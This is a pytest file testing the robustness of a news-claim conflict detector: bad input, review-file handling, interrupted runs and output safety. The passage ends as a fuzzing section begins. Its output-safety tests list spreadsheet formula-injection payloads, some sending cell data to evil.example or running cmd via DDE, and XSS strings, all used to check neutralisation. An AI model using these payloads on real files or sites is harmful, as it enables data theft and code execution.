"""Bad input, hostile input and interrupted runs: clear errors, nothing lost.

Each test names the README "Robustness" row it backs. Cases already covered elsewhere
(tests/test_loading.py, tests/test_review.py, tests/test_cli.py) are referenced there, not repeated.
"""
from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from typer.testing import CliRunner

from conftest import ROOT, SAMPLE, FakeEncoder
from conftest import write_file as write
from detector.cli import app
from detector.errors import CorpusError, DetectorError, OutputError, ReviewFileError
from detector.io import (
    MAX_FILE_BYTES, UnreadableFile, check_writable, decode_bytes, load_corpus, parse_date, safe_cell,
    skip_summary, write_csv,
)
from detector.review import COLUMNS, merge_reviews, pair_id, read_review_file, write_conflicts
from detector.types import CandidatePair, Claim, RuleHit, ScoredPair

runner = CliRunner()
BODY = "The council approved the ordinance on Tuesday by a vote of seven to two."
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def only_reason(skipped: list[str], name: str) -> str:
    hits = [line for line in skipped if line.startswith(name + ":")]
    assert len(hits) == 1, f"expected one skip line for {name}, got {skipped}"
    return hits[0]


def assert_one_error(result) -> str:
    """A user error: exit code non-zero, exactly one `error:` line and one `hint:` line, no traceback."""
    assert result.exit_code != 0, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.output.splitlines()
    errors = [l for l in lines if l.startswith("error: ")]
    hints = [l for l in lines if l.startswith("hint: ")]
    assert len(errors) == 1 and len(hints) == 1, result.output
    return errors[0]


def claim(text: str, doc_id: str = "a.txt", source: str = "Outlet A", start: int = 0) -> Claim:
    return Claim(claim_id=f"{doc_id}:{start}", doc_id=doc_id, source=source, text=text, start=start, end=start + len(text))


def scored(text_a: str, text_b: str, score: float = 0.8, source_a: str = "Outlet A", doc_a: str = "a.txt",
           evidence: str | None = None) -> ScoredPair:
    pair = CandidatePair(claim(text_a, doc_a, source_a), claim(text_b, "b.txt", "Outlet B"), 0.7)
    return ScoredPair(pair, (RuleHit("numbers", 0.9, evidence or f"numbers: {text_a[:10]} vs {text_b[:10]}"),), score)


P1 = scored("The fine is $5,000 per incident.", "The fine is $12,000 per incident.", 0.91)
P2 = scored("Registration is required for brokers.", "Registration is voluntary for brokers.", 0.77)


def files_in(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# === corpus input ===============================================================================

@pytest.mark.parametrize("make", ["missing", "empty folder", "no supported files", "only unusable files"])
def test_cli_corpus_with_nothing_usable_is_one_error_line(tmp_path, use_fake_encoder, make):
    corpus = tmp_path / "corpus"
    if make != "missing":
        corpus.mkdir()
    if make == "no supported files":
        write(corpus / "a.pdf", b"%PDF-1.4")
        write(corpus / "b.docx", b"PK\x03\x04")
    if make == "only unusable files":
        write(corpus / "empty.txt", "")
        write(corpus / "image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
        write(corpus / "broken.json", '{"text": "unterminated')
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["scan", str(corpus), "-o", str(out)])
    error = assert_one_error(result)
    assert str(corpus) in error
    assert not out.exists()


def test_cli_summarises_what_was_skipped_and_why(tmp_path, use_fake_encoder):
    corpus = tmp_path / "corpus"
    for name in ("herald.txt", "wire.txt", "post.txt"):
        write(corpus / name, f"SOURCE: {name}\n\n{BODY}\n")
    write(corpus / "image.txt", b"\x00\x01\x02binary\x00" * 20)
    write(corpus / "broken.json", "{not json")
    write(corpus / "empty.md", "")
    write(corpus / "photo.jpg", b"\xff\xd8\xff")
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["scan", str(corpus), "-o", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    lines = result.stderr.splitlines()
    assert sum(l.startswith("warning: skipped ") for l in lines) == 5  # one line per file, then the summary
    assert lines[-1] == "warning: skipped 4 of 7 files: 1 binary, 1 empty, 1 invalid JSON, 1 unsupported"
    assert out.exists()


def test_skip_summary_counts_records_apart_from_files(tmp_path):
    write(tmp_path / "feed.jsonl", json.dumps({"text": BODY}) + "\n" + json.dumps({"text": "<b></b>"}) + "\n")
    write(tmp_path / "empty.txt", "")
    docs, skipped = load_corpus(tmp_path)
    assert [d.doc_id for d in docs] == ["feed.jsonl#1"]
    assert skip_summary(docs, skipped) == "skipped 1 of 2 files: 1 empty; skipped 1 record: 1 no text"
    assert skip_summary(docs, []) is None


def test_huge_file_is_skipped_without_being_read(tmp_path, monkeypatch):
    write(tmp_path / "good.txt", BODY)
    with open(tmp_path / "huge.txt", "wb") as fh:  # sparse: 200 MB on paper, nothing on disk
        fh.truncate(200 * 2**20)
    opened = []
    real_open = open
    monkeypatch.setattr("detector.io.open", lambda path, *a, **k: opened.append(Path(path).name) or real_open(path, *a, **k), raising=False)
    docs, skipped = load_corpus(tmp_path)
    assert [d.doc_id for d in docs] == ["good.txt"]
    assert "too large (200 MB; the limit is 64 MB)" in only_reason(skipped, "huge.txt")
    assert "huge.txt" not in opened and "good.txt" in opened
    assert skipped[0].kind == "too large"


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32", "cp1252"])
def test_other_encodings_are_detected(tmp_path, encoding):
    text = "SOURCE: Zoë Times\n\n“Le café de la gare a rouvert ses portes lundi matin”, a déclaré le maire à la presse."
    write(tmp_path / "a.txt", text.encode(encoding))
    docs, skipped = load_corpus(tmp_path)
    assert skipped == []
    assert docs[0].source == "Zoë Times"
    assert docs[0].text.startswith("“Le café de la gare")
    # (Latin-1, UTF-16 with a BOM and UTF-8 with a BOM: tests/test_loading.py)


def test_encoding_detection_uses_charset_normalizer():
    source = (ROOT / "detector" / "io.py").read_text(encoding="utf-8")
    assert "from charset_normalizer import from_bytes" in source


@pytest.mark.parametrize("value", ["not shown", "yesterday", "Yesterday, 9am", "", "  ", "32/13/2026", "2026-02-30",
                                   "9999-12-31", "0001-01-01", "soon", "2026-13-01"])
def test_unparseable_header_dates_are_unknown(tmp_path, value):
    assert parse_date(value) is None
    write(tmp_path / "a.txt", f"SOURCE: Gazette\nDATE: {value}\n\nThe fire started tomorrow morning near the old mill, officials said.\n")
    docs, _ = load_corpus(tmp_path)
    assert docs[0].date is None and docs[0].source == "Gazette"


def test_a_date_at_the_end_of_the_calendar_does_not_crash_relative_days(tmp_path, fake_encoder):
    # "tomorrow" is resolved against the article date: 9999-12-31 + 1 day would overflow in the dates rule.
    from detector import scan

    write(tmp_path / "a.txt", "SOURCE: A\nDATE: 9999-12-31\n\nThe bridge reopened tomorrow morning after repairs, the city said.\n")
    write(tmp_path / "b.txt", "SOURCE: B\nDATE: 2026-03-01\n\nThe bridge reopened on Monday morning after repairs, the city said.\n")
    result = scan(tmp_path, encoder=fake_encoder)
    assert {d.date for d in result.documents} == {None, "2026-03-01"}


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_symlink_loops_and_broken_links_are_skipped(tmp_path):
    write(tmp_path / "good.txt", BODY)
    os.symlink("self.txt", tmp_path / "self.txt")
    os.symlink("pong.txt", tmp_path / "ping.txt")
    os.symlink("ping.txt", tmp_path / "pong.txt")
    os.symlink("nowhere.txt", tmp_path / "dangling.txt")
    os.symlink(".", tmp_path / "again")  # a folder cycle: never followed
    write(tmp_path / "real" / "inner.txt", BODY)
    os.symlink("real", tmp_path / "alias")
    docs, skipped = load_corpus(tmp_path)
    assert [d.doc_id for d in docs] == ["good.txt", "real/inner.txt"]
    for name in ("self.txt", "ping.txt", "pong.txt"):
        assert "loop" in only_reason(skipped, name)
    assert "broken" in only_reason(skipped, "dangling.txt")
    assert "not followed" in only_reason(skipped, "again")
    assert "not followed" in only_reason(skipped, "alias")


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_corpus_root_that_is_a_link_loop_is_one_clear_error(tmp_path):
    os.symlink("loop", tmp_path / "loop")
    with pytest.raises(CorpusError, match="symbolic link"):
        load_corpus(tmp_path / "loop")


def test_unreadable_file_is_skipped_with_the_reason(tmp_path, monkeypatch):
    # Simulated, so it also holds when the tests run as root (for whom chmod 000 does not stop reads).
    write(tmp_path / "good.txt", BODY)
    write(tmp_path / "secret.txt", BODY)
    real_open = open

    def guarded(path, *args, **kwargs):
        if Path(path).name == "secret.txt":
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr("detector.io.open", guarded, raising=False)
    docs, skipped = load_corpus(tmp_path)
    assert [d.doc_id for d in docs] == ["good.txt"]
    assert only_reason(skipped, "secret.txt") == "secret.txt: cannot read (Permission denied)"


@pytest.mark.skipif(IS_ROOT, reason="running as root: chmod 000 does not stop root from reading")
def test_unreadable_file_and_folder_really_chmodded(tmp_path):
    write(tmp_path / "good.txt", BODY)
    secret = write(tmp_path / "secret.txt", BODY)
    locked = write(tmp_path / "locked" / "inner.txt", BODY).parent
    secret.chmod(0)
    locked.chmod(0)
    try:
        docs, skipped = load_corpus(tmp_path)
    finally:
        secret.chmod(0o644)
        locked.chmod(0o755)
    assert [d.doc_id for d in docs] == ["good.txt"]
    assert "cannot read" in only_reason(skipped, "secret.txt")
    assert "cannot read folder" in only_reason(skipped, "locked")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_named_pipe_is_skipped_not_waited_on(tmp_path):
    write(tmp_path / "good.txt", BODY)
    os.mkfifo(tmp_path / "pipe.txt")
    docs, skipped = load_corpus(tmp_path)
    assert [d.doc_id for d in docs] == ["good.txt"]
    assert "not a regular file" in only_reason(skipped, "pipe.txt")


@pytest.mark.parametrize("name, content, reason", [
    ("deep.json", "[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ("deep.jsonl", json.dumps({"text": BODY}) + "\n" + "[" * 100_000 + "]" * 100_000 + "\n", "nested too deeply"),
    ("none.json", "[]", "no records"),
    ("scalar.json", "42", "no 'text'"),
    ("header.csv", "id,text,source\n", "no rows"),
    ("utf32.txt", b"\xff\xfe\x00\x00" + b"\x00\xd8\x00\x00", "UTF-32"),
    ("controls.txt", bytes(range(1, 9)) * 200, "binary"),
])
def test_malformed_files_are_skipped_with_a_reason(tmp_path, name, content, reason):
    write(tmp_path / "good.txt", BODY)
    write(tmp_path / name, content)
    docs, skipped = load_corpus(tmp_path)
    assert [d.doc_id for d in docs] == ["good.txt"]
    assert reason in only_reason(skipped, name)
    # (binary, empty, invalid JSON, CSV without text column, unsupported type: tests/test_loading.py)


def test_csv_with_a_long_article_cell_loads(tmp_path):
    long_text = (BODY + " ") * 3000  # ~220 KB in one cell, over the csv module's default field limit
    write(tmp_path / "long.csv", "source,text\nLedger," + '"' + long_text + '"\n')
    docs, skipped = load_corpus(tmp_path)
    assert skipped == [] and docs[0].text == long_text.strip()


# === the reviewed CSV ===========================================================================

def _refused(path: Path, content: bytes, match: str):
    path.write_bytes(content)
    with pytest.raises(ReviewFileError, match=match) as info:
        write_conflicts(path, [P1, P2])
    assert path.read_bytes() == content
    assert info.value.hint
    assert files_in(path.parent) == [path.name]


def rows_of(path: Path) -> tuple[list[str], list[dict]]:
    reader = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
    return list(reader.fieldnames), list(reader)


def save(path: Path, columns: list[str], rows: list[dict], **fmt) -> str:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=columns, lineterminator=fmt.pop("lineterminator", "\n"), **fmt)
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return buf.getvalue()


def _good_file(tmp_path: Path) -> tuple[Path, bytes]:
    """A conflicts CSV as the tool wrote it, with one verdict and note entered by a reviewer."""
    out = tmp_path / "c.csv"
    write_conflicts(out, [P1, P2])
    columns, rows = rows_of(out)
    rows[0]["verdict"], rows[0]["note"] = "yes", "checked"
    save(out, columns, rows)
    return out, out.read_bytes()


def test_review_file_without_verdict_column_is_refused(tmp_path):
    _refused(tmp_path / "c.csv", f"pair_id,score\n{pair_id(P1)},0.9\n".encode(), "no verdict column")


def test_review_file_with_a_column_twice_is_refused(tmp_path):
    _refused(tmp_path / "c.csv", f"pair_id,verdict,verdict\n{pair_id(P1)},yes,no\n".encode(), "appears twice")


def test_truncated_last_line_is_refused(tmp_path):
    _, content = _good_file(tmp_path)
    cut = content.rstrip(b"\n")
    cut = cut[: cut.rindex(b",", 0, cut.rindex(b"\n") + 60)]  # the last row stops after a few cells
    _refused(tmp_path / "c.csv", cut, "fewer cells than columns")
    # (cut inside a quoted cell: test_review.py::test_unterminated_quote_is_refused_untouched)


def test_bare_carriage_return_written_unquoted_stays_in_its_cell(tmp_path):
    # Python's csv writer (a reviewer's script) leaves a cell holding only "\r" unquoted.
    out, _ = _good_file(tmp_path)
    columns, rows = rows_of(out)
    rows[0]["note"] = "line one\rline two"
    save(out, columns, rows)
    assert b",line one\rline two," in out.read_bytes()
    assert read_review_file(out)[1][0]["note"] == "line one\rline two"
    write_conflicts(out, [P1, P2])
    assert read_review_file(out)[1][0]["note"] == "line one\nline two"  # written back as a quoted line break


def test_an_empty_existing_output_is_simply_written(tmp_path):
    out = write(tmp_path / "c.csv", b"")
    assert write_conflicts(out, [P1]).warnings == []
    assert out.read_text(encoding="utf-8").startswith("pair_id,")


def test_tab_separated_review_file_is_read(tmp_path):
    out, _ = _good_file(tmp_path)
    header, rows = rows_of(out)
    text = save(out, header, rows, delimiter="\t", lineterminator="\r\n")
    out.write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))  # Excel's "Unicode text"
    columns, got = read_review_file(out)
    assert columns == header and got[0]["verdict"] == "yes" and got[0]["note"] == "checked"


def test_read_only_review_file_is_refused_untouched_even_for_root(tmp_path):
    out, content = _good_file(tmp_path)
    out.chmod(0o444)
    try:
        with pytest.raises(OutputError, match="read-only") as info:
            write_conflicts(out, [P1])
        assert info.value.hint
    finally:
        out.chmod(0o644)
    assert out.read_bytes() == content
    assert files_in(tmp_path) == ["c.csv"]


def test_read_only_folder_is_refused_even_for_root(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(OutputError, match="read-only"):
            write_conflicts(folder / "c.csv", [P1])
        assert files_in(folder) == []
    finally:
        folder.chmod(0o755)


def test_output_that_is_a_folder_is_refused(tmp_path):
    with pytest.raises(OutputError, match="is a folder"):
        check_writable(tmp_path)


def test_locked_file_rename_failure_leaves_it_untouched(tmp_path, monkeypatch):
    # On Windows a file open in a spreadsheet cannot be replaced: os.replace raises PermissionError.
    out, content = _good_file(tmp_path)

    def locked(src, dst):
        raise PermissionError(13, "The process cannot access the file because it is being used by another process")

    monkeypatch.setattr("detector.io.os.replace", locked)
    with pytest.raises(OutputError, match="cannot write"):
        write_conflicts(out, [P1])
    assert out.read_bytes() == content
    assert files_in(tmp_path) == ["c.csv"]  # the temporary file was removed


def test_cli_read_only_output_fails_before_scanning(tmp_path, monkeypatch):
    import detector.pipeline

    def no_model(*args, **kwargs):
        raise AssertionError("the model was loaded although the output cannot be written")

    monkeypatch.setattr(detector.pipeline, "load_encoder", no_model)
    out, content = _good_file(tmp_path)
    out.chmod(0o444)
    try:
        result = runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out)])
    finally:
        out.chmod(0o644)
    assert "read-only" in assert_one_error(result)
    assert out.read_bytes() == content
    # the same for the other outputs of a scan
    result = runner.invoke(app, ["scan", str(SAMPLE), "-o", str(tmp_path / "new.csv"), "--report", str(tmp_path)])
    assert "is a folder" in assert_one_error(result)
    assert files_in(tmp_path) == ["c.csv"]


BROKEN_REVIEW_FILES = {
    "no pair_id column": b"id,verdict,note\n1,yes,\n",
    "no verdict column": b"pair_id,note\nabc,\n",
    "truncated last line": b"pair_id,verdict,note\nabc,yes,fine\ndef,n",
    "unterminated quote": b'pair_id,verdict,note\nabc,yes,"never closed\n',
    "too many cells": b"pair_id,verdict,note\nabc,yes,a,b,c\n",
}


@pytest.mark.parametrize("case", sorted(BROKEN_REVIEW_FILES))
@pytest.mark.parametrize("command", ["scan", "tune"])
def test_cli_broken_review_file_is_one_error_line_and_untouched(tmp_path, use_fake_encoder, monkeypatch, command, case):
    import detector.pipeline

    monkeypatch.setattr(detector.pipeline, "load_encoder", lambda *a, **k: pytest.fail("scanned before checking the review file"))
    out = write(tmp_path / "out.csv", BROKEN_REVIEW_FILES[case])
    args = ["scan", str(SAMPLE), "-o", str(out)] if command == "scan" else ["tune", str(out)]
    result = runner.invoke(app, args)
    assert_one_error(result)
    assert out.read_bytes() == BROKEN_REVIEW_FILES[case]
    assert files_in(tmp_path) == ["out.csv"]


def test_cli_unknown_verdict_is_a_warning_and_kept(tmp_path, use_fake_encoder):
    out = tmp_path / "out.csv"
    assert runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out), "-q"]).exit_code == 0
    columns, rows = rows_of(out)
    rows[0]["verdict"] = "maybe"
    save(out, columns, rows)
    result = runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out), "-q"])
    assert result.exit_code == 0
    assert any("unknown verdict 'maybe'" in l for l in result.stderr.splitlines())
    assert list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))[0]["verdict"] == "maybe"


@pytest.mark.skipif(IS_ROOT, reason="running as root: chmod 000 does not stop root from reading")
def test_unreadable_review_file_is_refused(tmp_path):
    out, content = _good_file(tmp_path)
    out.chmod(0)
    try:
        with pytest.raises(ReviewFileError, match="cannot read"):
            write_conflicts(out, [P1])
    finally:
        out.chmod(0o644)
    assert out.read_bytes() == content


# === output safety ==============================================================================

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised_in_every_column(tmp_path, payload):
    out = tmp_path / "c.csv"
    pair = scored(payload + " people were hurt.", "Twelve people were hurt.", source_a=payload, doc_a=payload + ".txt",
                  evidence=payload)
    write_conflicts(out, [pair])
    row = next(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    for column in ("claim_a", "source_a", "doc_a", "evidence"):
        assert row[column].startswith("'") and row[column][1:].startswith(payload.replace("\r", "\n")), (column, row[column])
    # rescanning onto the file neither doubles the quote nor loses it
    before = out.read_bytes()
    write_conflicts(out, [pair])
    assert out.read_bytes() == before


def test_plain_numbers_are_not_quoted():
    assert safe_cell("-0.0412") == "-0.0412" and safe_cell("0.91") == "0.91"
    assert safe_cell("-2+3") == "'-2+3" and safe_cell("-1e5") == "'-1e5"


def test_formula_payloads_from_article_text_end_to_end(tmp_path, use_fake_encoder):
    corpus = tmp_path / "corpus"
    lines_a = "\n".join(f"{p} The city fine for illegal dumping is $5,000 per incident, officials said." for p in PAYLOADS[:4])
    lines_b = "\n".join(f"{p} The city fine for illegal dumping is $12,000 per incident, officials said." for p in PAYLOADS[4:8])
    write(corpus / "herald.txt", f"SOURCE: {PAYLOADS[1]}\n\n{lines_a}\n")
    write(corpus / "wire.txt", f"SOURCE: {PAYLOADS[2]}\n\n{lines_b}\n")
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["scan", str(corpus), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) > 1, "the planted $5,000 / $12,000 conflict should be flagged"
    quoted = 0
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(DANGEROUS):
                float(cell)  # only a plain number may start with "-"
            quoted += cell.startswith("'")
    assert quoted >= 2  # at least the two outlet names


def test_html_report_escapes_article_text(tmp_path, use_fake_encoder):
    report = pytest.importorskip("detector.report", reason="no HTML report in this version")
    corpus = tmp_path / "corpus"
    # "&lt;" survives markup removal and becomes "<": the claims really hold the tags
    write(corpus / "herald.txt", "SOURCE: Herald <script>alert('source')</script>\n\n"
          "The city fine for illegal dumping is $5,000 per incident &lt;script&gt;alert(1)&lt;/script&gt;, officials said.\n")
    write(corpus / "wire.txt", "SOURCE: Wire <img src=x onerror=alert(2)>\n\n"
          "The city fine for illegal dumping is $12,000 per incident &lt;/script&gt;&lt;script&gt;alert(3)&lt;/script&gt;, officials said.\n")
    out, page = tmp_path / "out.csv", tmp_path / "report.html"
    result = runner.invoke(app, ["scan", str(corpus), "-o", str(out), "--report", str(page), "-q"])
    assert result.exit_code == 0, result.output
    assert "<script>alert(1)</script>" in out.read_text(encoding="utf-8")  # the payload reached the output
    html = page.read_text(encoding="utf-8")
    assert "alert(1)" in html and "alert(3)" in html  # the text is on the page ...
    for tag in ("<script", "</script", "<img"):  # ... but only the page's own tags are markup
        assert html.lower().count(tag) == report.PAGE.lower().count(tag), tag


def test_no_pickle_and_no_remote_code_in_the_package():
    forbidden_modules = {"pickle", "cPickle", "_pickle", "dill", "joblib", "shelve", "marshal", "cloudpickle"}
    for path in sorted((ROOT / "detector").rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(source)):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else (
                [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            assert not {n.split(".")[0] for n in names} & forbidden_modules, f"{path.name} imports {names}"
        compact = source.replace(" ", "")
        for needle in ("trust_remote_code=True", "allow_pickle=True", "torch.load(", "pd.read_pickle", "weights_only=False"):
            assert needle not in compact, f"{path.name} contains {needle}"
    assert "trust_remote_code=False" in (ROOT / "detector" / "embed.py").read_text(encoding="utf-8")


# === atomic and resumable =======================================================================

class InterruptingEncoder(FakeEncoder):
    def encode(self, texts):
        raise KeyboardInterrupt


def test_interrupt_mid_embedding_leaves_the_output_untouched(tmp_path, monkeypatch):
    import detector.pipeline

    out, content = _good_file(tmp_path)
    monkeypatch.setattr(detector.pipeline, "load_encoder", lambda *a, **k: InterruptingEncoder())
    with pytest.raises(KeyboardInterrupt):
        from detector import scan

        scan(SAMPLE)
    result = runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out)])
    assert result.exit_code == 130  # typer's code for an interrupted command
    assert out.read_bytes() == content
    assert files_in(tmp_path) == ["c.csv"]

    # and the next run works, keeping the verdict already entered
    monkeypatch.setattr(detector.pipeline, "load_encoder", lambda *a, **k: FakeEncoder())
    result = runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    assert any(r["verdict"] == "yes" and r["note"] == "checked" for r in read_review_file(out)[1])


def test_the_csv_is_written_only_after_the_scan_completes(tmp_path, monkeypatch):
    import detector.pipeline
    import detector.review

    events = []

    class Watching(FakeEncoder):
        def encode(self, texts):
            events.append("encode")
            return super().encode(texts)

    real_write = detector.review.write_conflicts
    monkeypatch.setattr(detector.pipeline, "load_encoder", lambda *a, **k: Watching())
    monkeypatch.setattr(detector.review, "write_conflicts", lambda *a, **k: events.append("write") or real_write(*a, **k))
    out = tmp_path / "out.csv"
    assert runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out), "-q"]).exit_code == 0
    assert events == ["encode", "write"]


def test_interrupt_during_the_write_leaves_no_partial_file(tmp_path, monkeypatch):
    out, content = _good_file(tmp_path)

    def interrupted(fd):
        raise KeyboardInterrupt

    monkeypatch.setattr("detector.io.os.fsync", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_conflicts(out, [P1, P2])
    assert out.read_bytes() == content
    assert files_in(tmp_path) == ["c.csv"]


def test_rewritten_output_keeps_its_permissions(tmp_path):
    out, _ = _good_file(tmp_path)
    out.chmod(0o640)
    write_conflicts(out, [P1])
    assert out.stat().st_mode & 0o777 == 0o640
    fresh = tmp_path / "fresh.csv"
    write_csv(fresh, ["a"], [{"a": "1"}])
    umask = os.umask(0)
    os.umask(umask)
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's 0600


@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_killed_real_scan_leaves_output_untouched_and_next_run_works(tmp_path, use_fake_encoder, sig):
    out, content = _good_file(tmp_path)
    proc = subprocess.Popen(
        [sys.executable, "-m", "detector", "scan", str(SAMPLE), "-o", str(out)], cwd=ROOT,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # even when started in the background
    )
    time.sleep(1.5)  # importing torch and loading the model take several seconds
    if proc.poll() is not None:
        pytest.skip(f"the scan finished within 1.5 s (exit {proc.returncode}); nothing to interrupt")
    proc.send_signal(sig)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130, stderr
    assert "Traceback" not in stderr
    assert stderr.strip().splitlines()[-1] == "interrupted; no output file was changed"
    assert out.read_bytes() == content
    assert files_in(tmp_path) == ["c.csv"]
    result = runner.invoke(app, ["scan", str(SAMPLE), "-o", str(out), "-q"])  # the next run works
    assert result.exit_code == 0, result.output
    assert any(r["verdict"] == "yes" for r in read_review_file(out)[1])


def test_a_signal_a_destructor_swallowed_still_stops_the_scan_before_it_writes(tmp_path, use_fake_encoder, monkeypatch, capsys):
    """Python ignores an exception raised inside __del__: a Ctrl-C landing there must not be lost."""
    from detector import cli

    out, content = _good_file(tmp_path)
    monkeypatch.setattr(cli, "_SIGNALS", [])

    class Dying:
        def __del__(self):
            cli._interrupt(signal.SIGINT, None)

    Dying()  # collected at once: the interrupt it raises is swallowed ("Exception ignored in ...")
    monkeypatch.setattr(signal, "signal", lambda *args: None)  # leave this test process's own handlers alone
    monkeypatch.setattr(sys, "argv", ["detector", "scan", str(SAMPLE), "-o", str(out), "-q"])
    with pytest.raises(SystemExit) as stopped:
        cli.main()
    assert stopped.value.code == 130
    assert capsys.readouterr().err.strip().splitlines()[-1] == "interrupted; no output file was changed"
    assert out.read_bytes() == content


def test_usage_errors_are_one_line_through_the_real_entry_point(tmp_path):
    out = str(tmp_path / "o.csv")
    for args in (["scan", str(SAMPLE), "--threshold", "2", "-o", out], ["scan"], ["nonsense"],
                 ["scan", str(tmp_path / "nowhere"), "-o", out], ["tune", str(tmp_path / "nowhere.csv")]):
        proc = subprocess.run([sys.executable, "-m", "detector", *args], cwd=ROOT, capture_output=True, text=True, timeout=120)
        assert proc.returncode == 2, (args, proc.stderr)
        lines = proc.stderr.splitlines()
        assert len(lines) == 2 and lines[0].startswith("error: ") and lines[1].startswith("hint: "), (args, proc.stderr)
    assert not (tmp_path / "o.csv").exists()


# === determinism ================================================================================

def _copy_in_order(src: Path, dst: Path, names: list[str]) -> None:
    dst.mkdir(parents=True)
    for name in names:
        shutil.copyfile(src / name, dst / name)
        time.sleep(0.002)  # distinct mtimes too


def test_output_does_not_depend_on_file_order_on_disk(tmp_path, use_fake_encoder):
    names = sorted(p.name for p in SAMPLE.iterdir() if p.is_file())
    _copy_in_order(SAMPLE, tmp_path / "forward", names)
    _copy_in_order(SAMPLE, tmp_path / "backward", names[::-1])
    outs = []
    for folder in ("forward", "backward"):
        out = tmp_path / f"{folder}.csv"
        assert runner.invoke(app, ["scan", str(tmp_path / folder), "-o", str(out), "-q"]).exit_code == 0
        outs.append(out.read_bytes())
    assert outs[0] == outs[1] and outs[0].count(b"\n") > 1
    # several roots, given in either order
    a, b = tmp_path / "two" / "a", tmp_path / "two" / "b"
    _copy_in_order(SAMPLE, a, names[: len(names) // 2])
    _copy_in_order(SAMPLE, b, names[len(names) // 2:])
    one, two = tmp_path / "ab.csv", tmp_path / "ba.csv"
    assert runner.invoke(app, ["scan", str(a), str(b), "-o", str(one), "-q"]).exit_code == 0
    assert runner.invoke(app, ["scan", str(b), str(a), "-o", str(two), "-q"]).exit_code == 0
    assert one.read_bytes() == two.read_bytes()
    # (run to run in one process: tests/test_cli.py::test_two_scans_give_identical_bytes)


def test_output_is_byte_identical_across_processes_and_hash_seeds(tmp_path):
    code = textwrap.dedent("""
        import sys
        sys.path.insert(0, sys.argv[1])
        from conftest import FakeEncoder
        import detector.pipeline
        detector.pipeline.load_encoder = lambda *a, **k: FakeEncoder()
        from detector.cli import main
        sys.argv = ["detector", "scan", sys.argv[2], "-o", sys.argv[3], "-q"]
        main()
    """)
    corpus = ROOT / "tests" / "corpus"
    outs = []
    for seed in ("1", "2", "12345"):
        out = tmp_path / f"seed{seed}.csv"
        env = {**os.environ, "PYTHONHASHSEED": seed}
        proc = subprocess.run([sys.executable, "-c", code, str(ROOT / "tests"), str(corpus), str(out)],
                              cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        outs.append(out.read_bytes())
    assert outs[0].count(b"\n") > 1
    assert outs[0] == outs[1] == outs[2]


# === fuzzing ====================================================================================

FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
SUFFIXES = [".txt", ".md", ".html", ".json", ".jsonl", ".csv"]
TEXTISH = st.one_of(
    st.binary(max_size=400),
    st.text(max_size=300).map(lambda t: t.encode("utf-8")),
    st.text(alphabet=st.sampled_from(list('{}[]":,\n\\ text<>/=;\'abc01')), max_size=200).map(str.encode),
    st.text(max_size=200).map(lambda t: t.encode("utf-16")),
    st.text(alphabet=st.characters(max_codepoint=255), max_size=200).map(lambda t: t.encode("latin-1")),
)


@FUZZ
